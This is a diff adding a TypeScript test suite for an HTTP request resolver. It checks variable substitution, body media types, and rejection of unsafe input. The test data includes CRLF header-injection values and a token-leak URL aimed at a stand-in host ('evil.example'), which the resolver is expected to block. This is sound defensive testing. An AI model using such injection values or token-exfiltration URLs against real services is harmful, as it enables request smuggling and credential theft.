@@ -1,0 +1,174 @@
+import assert from 'node:assert/strict';
+import { parse, variablesAt } from '../../../../src/core/http/parse.ts';
+import { resolve, type OutgoingRequest, type Resolution } from '../../../../src/core/http/resolve.ts';
+
+function resolved(text: string, given: Readonly<Record<string, string>> = {}): Resolution {
+  const file = parse(text);
+  const [block] = file.requests;
+  assert.ok(block);
+  return resolve(block, { given: new Map(Object.entries(given)), environment: new Map(), file: variablesAt(file.variables, block.line) });
+}
+
+function outgoing(text: string, given?: Readonly<Record<string, string>>): OutgoingRequest {
+  const resolution = resolved(text, given);
+  assert.equal(resolution.kind, 'request', JSON.stringify(resolution));
+  return resolution.kind === 'request' ? resolution.request : assert.fail();
+}
+
+function codes(resolution: Resolution): readonly string[] {
+  return resolution.kind === 'problems' ? resolution.problems.map(({ code }) => code) : [];
+}
+
+function bodyOf(request: OutgoingRequest): string | undefined {
+  return request.body && new TextDecoder().decode(request.body);
+}
+
+describe('resolve', () => {
+  it('replaces URL, headers and body', () => {
+    const request = outgoing('@a = 1\n### t\nPATCH /x/{{a}}?{{%b}}\nX: {{a}}\nContent-Type: text/plain\n\n{{a}}\n{{b}}', { b: 'c d' });
+    assert.equal(request.url, '/x/1?c%20d');
+    assert.deepEqual(request.headers, [['X', '1'], ['Content-Type', 'text/plain']]);
+    assert.equal(bodyOf(request), '1\nc d');
+  });
+
+  it('calls a request by its name, its title, or what it does', () => {
+    assert.equal(outgoing('### t\n# @name n\nGET /a').title, 'n');
+    assert.equal(outgoing('### t\nGET /a').title, 't');
+    assert.equal(outgoing('GET /a/{{x}}', { x: '1' }).title, 'GET /a/{{x}}');
+  });
+
+  it('leaves out Content-Length, which only the transport knows', () => {
+    assert.deepEqual(outgoing('POST /a\ncontent-length: 5\nX: y').headers, [['X', 'y']]);
+  });
+
+  const problems: readonly (readonly [what: string, text: string, codes: readonly string[], given?: Readonly<Record<string, string>>])[] = [
+    ['an unknown variable in the URL', 'GET /{{x}}', ['variableUnknown']],
+    ['unknown variables, each place once', 'POST /{{x}}{{x}}\nX: {{x}}\n\n{{x}} {{y}}', ['variableUnknown', 'variableUnknown', 'variableUnknown', 'variableUnknown']],
+    ['no URL', 'GET', ['urlMissing']],
+    ['a URL that is nothing in the end', 'DELETE {{x}}', ['urlEmpty'], { x: ' ' }],
+    ['a line break in a header', 'GET /a\nX: {{x}}', ['headerLineBreak'], { x: 'a\r\nEvil: b' }],
+    ['a line feed in a header', 'GET /a\nX: {{x}}', ['headerLineBreak'], { x: 'a\nb' }],
+    ['NUL in a header', 'GET /a\nX: {{x}}', ['headerLineBreak'], { x: 'a\0b' }],
+    ['another control character in a header', 'GET /a\nX: {{x}}', ['headerCharacter'], { x: 'a\x1bb' }],
+    ['a character beyond Latin-1 in a header', 'GET /a\nX: Ω', ['headerCharacter']],
+    ['a line break in an own Authorization', 'GET /a\nAuthorization: Basic {{x}}', ['headerLineBreak'], { x: 'a\nb' }],
+    ['a body from a file', 'POST /a\n\n< ./x', ['fileBody']],
+    ['more text than a request can have', `POST /a\n\n${'{{x}}'.repeat(40)}`, ['tooLong'], { x: 'x'.repeat(1024 * 1024) }],
+  ];
+  for (const [what, text, expected, given] of problems) {
+    it(`sends nothing with ${what}`, () => assert.deepEqual(codes(resolved(text, given)), expected));
+  }
+
+  it('lets Latin-1 and tabs in headers pass', () => {
+    assert.deepEqual(outgoing('GET /a\nX: Zoë\t1').headers, [['X', 'Zoë\t1']]);
+  });
+
+  it('says where a variable is unknown', () => {
+    const text = 'GET /a\nX: y\nZ: {{nope}}';
+    const resolution = resolved(text);
+    assert.ok(resolution.kind === 'problems' && resolution.problems[0]);
+    const { start, end } = resolution.problems[0].range;
+    assert.equal(text.slice(start, end), 'Z: {{nope}}');
+  });
+
+  it('does not hold the hints of a file against its requests', () => {
+    assert.equal(resolved('GET /a\nX: y\n  folded').kind, 'request');
+  });
+});
+
+describe('resolve: the token', () => {
+  const markers: readonly string[] = [
+    'Authorization: Bearer {{$aadV2Token}}',
+    'Authorization: {{$aadV2Token appOnly}}',
+    'authorization: bearer   {{ $aadToken }}',
+    'AUTHORIZATION: {{$auth.token("x")}}',
+    'Authorization: Bearer {{mine}}',
+  ];
+  for (const marker of markers) {
+    it(`is meant by “${marker}”`, () => {
+      const request = outgoing(`@mine = {{$aadV2Token}}\nGET /a\n${marker}\nX: y`);
+      assert.equal(request.authorization, 'token');
+      assert.deepEqual(request.headers, [['X', 'y']]);
+    });
+  }
+
+  it('goes along without a header too', () => assert.equal(outgoing('GET /a').authorization, 'token'));
+
+  const misplaced: readonly string[] = [
+    'GET /a?t={{$aadV2Token}}',
+    'GET https://{{$aadV2Token}}.evil.example/',
+    'GET /a\nX-Token: {{$aadV2Token}}',
+    'GET /a\nCookie: {{mine}}',
+    'GET /a\nAuthorization: Bearer x{{$aadV2Token}}',
+    'GET /a\nAuthorization: Basic {{$aadV2Token}}',
+    'GET /a\nAuthorization: Bearer {{$aadV2Token}}{{$aadV2Token}}',
+    'GET /a\nAuthorization: Bearer {{$aadV2Token}} x',
+    'GET /a\nAuthorization: Bearer Bearer {{$aadV2Token}}',
+    'GET /a\nProxy-Authorization: Bearer {{$aadV2Token}}',
+    'POST /a\n\n{"token": "{{mine}}"}',
+    'POST /a\n\n{{$aadV2Token}}',
+  ];
+  for (const text of misplaced) {
+    it(`is a mistake in ${JSON.stringify(text)}`, () => assert.deepEqual(codes(resolved(`@mine = {{$aadV2Token}}\n${text}`)), ['tokenMisplaced']));
+  }
+
+  it('is a mistake as part of a variable', () => {
+    assert.deepEqual(codes(resolved('@a = x {{$aadV2Token}}\nGET /a\nAuthorization: {{a}}')), ['variableUnknown']);
+  });
+
+  it('stays away where the file has a credential of its own', () => {
+    for (const value of ['Basic dXNlcjpw', 'Bearer {{x}}', '']) {
+      const request = outgoing(`GET /a\nAuthorization: ${value}`, { x: 'abc' });
+      assert.equal(request.authorization, 'asWritten');
+      assert.deepEqual(request.headers, [['Authorization', value.replace('{{x}}', 'abc')]]);
+    }
+  });
+
+  it('cannot be made by a value that looks like the marker', () => {
+    const request = outgoing('GET /a\nX: {{x}}', { x: '{{$aadV2Token}}' });
+    assert.deepEqual(request.headers, [['X', '{{$aadV2Token}}']]);
+  });
+});
+
+describe('resolve: bodies', () => {
+  const json = 'Content-Type: application/json\n';
+  const table: readonly (readonly [what: string, headers: string, body: string, sent: string, mediaType: string])[] = [
+    ['JSON without a type', '', '{"a":1}', '{"a":1}', 'application/json'],
+    ['a list without a type', '', ' [1]', ' [1]', 'application/json'],
+    ['JSON that is broken, as it is', '', '{"a":', '{"a":', 'application/json'],
+    ['text without a type', '', 'hello', 'hello', 'text/plain; charset=utf-8'],
+    ['a number without a type', '', '1', '1', 'text/plain; charset=utf-8'],
+    ['JSON with comments', json, '// a\n{\n  # b\n  "a": 1\n}', '{\n  "a": 1\n}', 'application/json'],
+    ['JSON with comments, without a type', '', '{\n  // b\n  "a": 1\n}', '{\n  "a": 1\n}', 'application/json'],
+    ['JSON whose comment has an unknown variable', json, '{\n// {{nope}}\n"a": "{{v}}"}', '{\n"a": "value"}', 'application/json'],
+    ['JSON with # and // in its strings', json, '{"a": "// b",\n"#c": 1}', '{"a": "// b",\n"#c": 1}', 'application/json'],
+    ['broken JSON with comments, as it is', json, '{\n// b\n"a" 1}', '{\n// b\n"a" 1}', 'application/json'],
+    ['JSON of another kind with comments', 'Content-Type: application/vnd.api+json\n', '# a\n[]', '[]', 'application/vnd.api+json'],
+    ['Markdown', 'Content-Type: text/markdown\n', '# Title\ntext', '# Title\ntext', 'text/markdown'],
+    ['a heading and a number, without a type', '', '# Title\n1', '# Title\n1', 'text/plain; charset=utf-8'],
+    ['a Markdown heading and a quoted word, without a type', '', '# Title\n"a"', '# Title\n"a"', 'text/plain; charset=utf-8'],
+    ['CSV', 'Content-Type: text/csv\n', '#id,name\n1,a', '#id,name\n1,a', 'text/csv'],
+    ['a form over several lines', 'Content-Type: application/x-www-form-urlencoded\n', 'a=1\n&b={{v}}\n  &c=3', 'a=1&b=value&c=3', 'application/x-www-form-urlencoded'],
+    ['a form on one line', 'content-type: application/x-www-form-urlencoded; charset=utf-8\n', 'a=1&b=2', 'a=1&b=2', 'application/x-www-form-urlencoded; charset=utf-8'],
+    ['a value that looks like a comment', json, '["{{c}}"]', '["// no"]', 'application/json'],
+    ['escaped braces', json, '{"a": "\\{\\{b\\}\\}"}', '{"a": "{{b}}"}', 'application/json'],
+    ['other characters than ASCII', 'Content-Type: text/plain\n', 'Zoë 😀', 'Zoë 😀', 'text/plain'],
+  ];
+  for (const [what, headers, body, sent, mediaType] of table) {
+    it(what, () => {
+      const request = outgoing(`POST /a\n${headers}\n${body}`, { v: 'value', c: '// no' });
+      assert.equal(bodyOf(request), sent);
+      assert.equal(request.headers.find(([name]) => name.toLowerCase() === 'content-type')?.[1], mediaType);
+    });
+  }
+
+  it('no body, no media type', () => {
+    const request = outgoing('POST /a\n\n   \n');
+    assert.equal(request.body, undefined);
+    assert.deepEqual(request.headers, []);
+  });
+
+  it('an unknown variable outside the comments is a problem', () => {
+    assert.deepEqual(codes(resolved(`POST /a\n${json}\n{\n// c\n"a": {{nope}}}`)), ['variableUnknown']);
+  });
+});
